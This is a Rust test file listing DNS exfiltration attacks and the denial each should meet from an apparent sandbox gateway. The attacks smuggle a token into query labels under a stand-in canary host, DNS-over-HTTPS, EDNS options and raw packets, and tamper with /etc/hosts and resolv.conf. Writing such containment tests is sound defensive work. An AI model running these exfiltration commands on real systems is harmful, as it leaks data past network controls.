//! Names as a way out.

use crate::{Attack, Control, Expect, Trace};
use Control::{Root, User};
use Expect::{Errno, Exit, Finds, Harmless};
use Trace::{Success, Wire};

const fn wire(id: &'static str, what: &'static str, command: &'static str, denied: Expect) -> Attack {
    Attack { id, what, command, trace: Wire, control: User, denied }
}

/// The class.
pub const ATTACKS: &[Attack] = &[
    wire(
        "D01",
        "data in the label of a name",
        "once(lambda: socket.getaddrinfo(T + '.canary.example', 80))",
        Errno("EAI_NONAME"),
    ),
    wire(
        "D02",
        "data in a label below a listed wildcard, looked up only",
        "once(lambda: socket.getaddrinfo(T + '.wild.example', 443))",
        Harmless("it gets a stand-in address; the name is resolved outside only when it is connected to"),
    ),
    wire(
        "D04",
        "DNS over HTTPS",
        "once(lambda: curl('https://%s/dns-query?name=%s.canary.example' % (RESOLVER4, T)))",
        Exit("curl", 7),
    ),
    wire(
        "D05",
        "DNS over TLS, DNS over QUIC",
        "each(lambda f: f(RESOLVER4, 853, answered=False), tcp, udp)",
        Errno("ENETUNREACH"),
    ),
    wire(
        "D06",
        "other record types (TXT, NULL, ANY, SVCB, HTTPS, CNAME, MX)",
        "each(lambda k: dns(resolver(), T + '.canary.example', k), 16, 10, 255, 64, 65, 5, 15)",
        Finds("NXDOMAIN"),
    ),
    wire(
        "D07",
        "another resolver, by UDP and TCP",
        "each(lambda f: f(), lambda: dns(RESOLVER4, T + '.canary.example', 1), lambda: tcp(RESOLVER4, 53, answered=False))",
        Errno("ENETUNREACH"),
    ),
    wire(
        "D09",
        "listed names whose answers are private",
        "each(lambda n: curl('-f', 'http://answers-%s.example/%s' % (n, T)), 'metadata', 'lan', 'ten', 'cgnat')",
        Exit("curl", 22),
    ),
    wire(
        "D14",
        "data in an EDNS option, for a listed name",
        "once(lambda: dns(resolver(), 'allowed.example', 1, struct.pack('>HH', 65001, len(T)) + T.encode()))",
        Harmless("the gateway answers by itself; no byte of the question goes on"),
    ),
    wire(
        "D15",
        "data in the spelling of a listed name, and in trailing bytes",
        r"once(lambda: spelled())
def spelled():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(4)
        s.connect((resolver(), 53))
        s.send(b'\0\7\1\0\0\1\0\0\0\0\0\0\7AlLoWeD\7eXaMpLe\0\0\1\0\1' + T.encode())
        s.recv(512)",
        Harmless("the gateway answers by itself, or not at all"),
    ),
    Attack {
        id: "D17",
        what: "the files that say where names lead",
        command: "each(lambda p: open(p, 'a').write('\\n'), '/etc/hosts', '/etc/resolv.conf', '/etc/nsswitch.conf')",
        trace: Success,
        control: Root,
        denied: Errno("EROFS"),
    },
];
